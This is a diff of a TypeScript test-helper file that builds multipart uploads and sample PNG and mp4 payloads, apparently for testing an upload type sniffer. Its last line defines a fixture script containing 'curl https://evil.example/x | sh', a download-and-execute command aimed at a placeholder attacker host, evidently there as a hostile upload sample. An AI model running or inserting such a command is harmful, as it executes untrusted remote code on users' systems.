@@ -1,4 +1,5 @@
 import { randomBytes } from 'node:crypto';
+import { mp4, png as image } from './images';
 
 export interface Upload {
   field?: string;
@@ -20,20 +21,9 @@ export const multipart = (files: Upload[]) => {
   return { body: Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
 };
 
-const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
+/** A valid PNG (D3 checks the structure, not only the signature), exactly `size` bytes, random content. */
+export const png = (size = 1024): Buffer => image({ width: 32, height: 32, size });
 
-/** Bytes the sniffer takes for a PNG (signature + filler), `size` long. */
-export const png = (size = 1024): Buffer => {
-  const b = randomBytes(size);
-  Buffer.from(PNG_SIGNATURE).copy(b);
-  return b;
-};
-
-/** An ISO-BMFF (mp4) header: box size, then `ftyp`. */
-export const mp4 = (size = 4096): Buffer => {
-  const b = randomBytes(size);
-  Buffer.from([0, 0, 0, 0x18, 0x66, 0x74, 0x79, 0x70, 0x69, 0x73, 0x6f, 0x6d]).copy(b);
-  return b;
-};
+export { mp4 };
 
 export const script = (): Buffer => Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
